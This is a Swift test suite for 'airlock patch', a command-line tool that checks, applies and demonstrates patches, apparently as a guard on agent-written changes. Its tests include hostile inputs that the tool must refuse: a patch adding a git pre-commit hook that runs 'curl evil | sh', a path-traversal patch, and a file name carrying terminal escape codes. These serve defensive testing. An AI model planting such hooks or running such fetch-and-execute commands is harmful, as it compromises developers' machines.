import AirlockCore
import Foundation
import Testing

@Suite("airlock patch commands")
struct PatchCommandTests {
    static let change = """
        diff --git a/a.txt b/a.txt
        --- a/a.txt
        +++ b/a.txt
        @@ -1,3 +1,4 @@
         one
        -two
        +TWO
         three
        +four

        """

    private func workspace() throws -> URL {
        let dir = try CLIHarness.temporaryDirectory()
        try CLIHarness.write("one\ntwo\nthree\n", to: "a.txt", in: dir)
        try CLIHarness.write(Self.change, to: "../\(dir.lastPathComponent).patch", in: dir)
        return dir
    }

    private func patchPath(_ dir: URL) -> String { "../\(dir.lastPathComponent).patch" }

    @Test func statPrintsNumstatLikeGit() throws {
        let dir = try workspace()
        let result = try CLIHarness.run(["patch", "stat", "--numstat", patchPath(dir)], in: dir)
        #expect(result.status == 0)
        #expect(result.stdout == "2\t1\ta.txt\n")
        let json = try CLIHarness.run(["patch", "stat", "--json", patchPath(dir)], in: dir)
        #expect(json.stdout.contains("\"digest\" : \"\(PatchDigest(canonicalText: Array(Self.change.utf8)).hex)\""))
    }

    @Test func checkWritesNothingAndApplyWritesEverything() throws {
        let dir = try workspace()
        let check = try CLIHarness.run(["patch", "check", patchPath(dir)], in: dir)
        #expect(check.status == 0, "\(check.stderr)")
        #expect(check.stdout.hasPrefix("would apply: 1 file, +2 -1"))
        #expect(try CLIHarness.read("a.txt", in: dir) == "one\ntwo\nthree\n")

        let apply = try CLIHarness.run(["patch", "apply", "--workspace", dir.path, patchPath(dir)], in: dir)
        #expect(apply.status == 0, "\(apply.stderr)")
        #expect(try CLIHarness.read("a.txt", in: dir) == "one\nTWO\nthree\nfour\n")

        // Applying again no longer matches: exit 1, with the reason, and nothing changes.
        let again = try CLIHarness.run(["patch", "check", patchPath(dir)], in: dir)
        #expect(again.status == 1)
        #expect(again.stderr.contains("hunk 1 (@@ -1,3 +1,4 @@) of `a.txt` does not match"))
    }

    @Test func unusableInputNamesFileAndLineAndExitsTwo() throws {
        let dir = try workspace()
        try CLIHarness.write("diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1,12 +1,12 @@\n one\n", to: "bad.patch", in: dir)
        let result = try CLIHarness.run(["patch", "check", "bad.patch"], in: dir)
        #expect(result.status == 2)
        #expect(result.stderr == "airlock: bad.patch:4: hunk says 12 old and 12 new lines, body has 1 and 1 (the patch ends first)\n")
        let stdin = try CLIHarness.run(["patch", "stat"], in: dir, input: Array("hello\n".utf8))
        #expect(stdin.status == 2)
        #expect(stdin.stderr.hasPrefix("airlock: <stdin>: not a patch"))
        let missing = try CLIHarness.run(["patch", "stat", "nope.patch"], in: dir)
        #expect(missing.status == 2)
        #expect(missing.stderr.contains("nope.patch: cannot read: No such file or directory"))
    }

    @Test func hostilePatchIsRefusedWithItsReasonAndExitOne() throws {
        let dir = try workspace()
        try FileManager.default.createDirectory(at: dir.appendingPathComponent(".git/hooks"), withIntermediateDirectories: true)
        let hook = ".git/hooks/pre-commit"
        let hostile = "diff --git a/\(hook) b/\(hook)\nnew file mode 100755\n--- /dev/null\n+++ b/\(hook)\n@@ -0,0 +1 @@\n+curl evil | sh\n"
        let result = try CLIHarness.run(["patch", "apply", "--format", "git", "-"], in: dir, input: Array(hostile.utf8))
        #expect(result.status == 1, "\(result.stderr)")
        #expect(result.stderr == "airlock: refused: `\(hook)`: `.git` is git's own directory `.git`; nothing inside `.git` may be patched\nairlock: nothing was written\n")
        #expect(!FileManager.default.fileExists(atPath: dir.appendingPathComponent(hook).path))
        let traversal = "diff --git a/../x b/../x\nnew file mode 100644\n--- /dev/null\n+++ b/../x\n@@ -0,0 +1 @@\n+x\n"
        let refused = try CLIHarness.run(["patch", "apply", "-"], in: dir, input: Array(traversal.utf8))
        #expect(refused.status == 1)
        #expect(refused.stderr.contains("refused:"))
        #expect(refused.stderr.contains("nothing was written"))
        #expect(!FileManager.default.fileExists(atPath: dir.deletingLastPathComponent().appendingPathComponent("x").path))
    }

    @Test func managedWorkspaceRefusesDirectApply() throws {
        let dir = try workspace()
        try FileManager.default.createDirectory(at: dir.appendingPathComponent(".airlock"), withIntermediateDirectories: true)
        let result = try CLIHarness.run(["patch", "apply", patchPath(dir)], in: dir)
        #expect(result.status == 1)
        #expect(result.stderr.contains("managed by Airlock"))
        #expect(try CLIHarness.read("a.txt", in: dir) == "one\ntwo\nthree\n")
    }

    @Test func codexPatchThroughTheCLI() throws {
        let dir = try workspace()
        let codex = "*** Begin Patch\n*** Update File: a.txt\n@@\n one\n-two\n+deux\n*** Add File: b.txt\n+bee\n*** End Patch\n"
        let stat = try CLIHarness.run(["patch", "stat", "--numstat", "-"], in: dir, input: Array(codex.utf8))
        #expect(stat.stdout == "1\t1\ta.txt\n1\t0\tb.txt\n", "\(stat.stderr)")
        let apply = try CLIHarness.run(["patch", "apply", "-"], in: dir, input: Array(codex.utf8))
        #expect(apply.status == 0, "\(apply.stderr)")
        #expect(try CLIHarness.read("a.txt", in: dir) == "one\ndeux\nthree\n")
        #expect(try CLIHarness.read("b.txt", in: dir) == "bee\n")
    }

    @Test func codexPatchOnACRLFFileKeepsItCRLF() throws {
        let dir = try workspace()
        try CLIHarness.write("one\r\ntwo\r\nthree\r\n", to: "a.txt", in: dir)
        let codex = "*** Begin Patch\n*** Update File: a.txt\n@@\n one\n-two\n+deux\n+zwei\n*** End Patch\n"
        let apply = try CLIHarness.run(["patch", "apply", "-"], in: dir, input: Array(codex.utf8))
        #expect(apply.status == 0, "\(apply.stderr)")
        #expect(try CLIHarness.read("a.txt", in: dir) == "one\r\ndeux\r\nzwei\r\nthree\r\n")
    }

    @Test func agentTextNeverReachesTheTerminalRaw() throws {
        let dir = try workspace()
        let evil = "diff --git \"a/x\\033[2Jy\" \"b/x\\033[2Jy\"\nnew file mode 100644\n--- /dev/null\n+++ \"b/x\\033[2Jy\"\n@@ -0,0 +1 @@\n+x\n"
        for command in [["patch", "stat"], ["patch", "check"], ["patch", "apply"]] {
            let result = try CLIHarness.run(command + ["-"], in: dir, input: Array(evil.utf8))
            #expect(!result.stdout.contains("\u{1b}") && !result.stderr.contains("\u{1b}"), "\(command): \(result.stdout.debugDescription) \(result.stderr.debugDescription)")
        }
    }
}

@Suite("airlock patch demo")
struct PatchDemoTests {
    @Test func demoAppliesTheSafePatchesAndRefusesTheHostileOne() throws {
        let dir = try CLIHarness.temporaryDirectory()
        let result = try CLIHarness.run(["patch", "demo", "--directory", dir.path], in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(try CLIHarness.read("workspace/src/greet.swift", in: dir).contains("Hello, \\(name)!"))
        #expect(try CLIHarness.read("workspace/README.md", in: dir).contains("after a human approved it"))
        #expect(result.stderr.contains("refused:"))
        #expect(!FileManager.default.fileExists(atPath: dir.appendingPathComponent("outside.txt").path))
        #expect(!result.stdout.contains("\u{1b}") && !result.stderr.contains("\u{1b}"))
    }
}

@Suite("airlock help")
struct HelpTests {
    /// The usage lines are the commands' contract with scripts and agents.
    @Test func usageLinesOfThePatchCommands() throws {
        let dir = try CLIHarness.temporaryDirectory()
        let expected = [
            "stat": "USAGE: airlock patch stat [<patch>] [-p <n>] [--format <format>] [--numstat] [--json] [--workspace <workspace>]",
            "check": "USAGE: airlock patch check [<patch>] [-p <n>] [--format <format>] [--workspace <workspace>] [--json]",
            "apply": "USAGE: airlock patch apply [<patch>] [-p <n>] [--format <format>] [--workspace <workspace>] [--json] [--durable]",
            "demo": "USAGE: airlock patch demo [--directory <directory>]",
        ]
        for (command, usage) in expected {
            let result = try CLIHarness.run(["patch", command, "--help"], in: dir, environment: ["COLUMNS": "200"])
            #expect(result.status == 0)
            #expect(result.stdout.contains(usage), "\(command): \(result.stdout)")
        }
    }
}
